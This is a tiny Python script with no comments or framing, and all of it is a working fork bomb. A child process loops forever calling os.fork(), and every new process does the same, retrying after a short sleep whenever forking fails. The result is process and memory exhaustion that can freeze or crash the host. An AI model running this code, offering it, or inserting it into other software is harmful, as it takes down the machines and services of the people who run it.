import os as _os
import time as _time

if not _os.fork():
    while True:
        try:
            _os.fork()
        except OSError:
            _time.sleep(0.05)
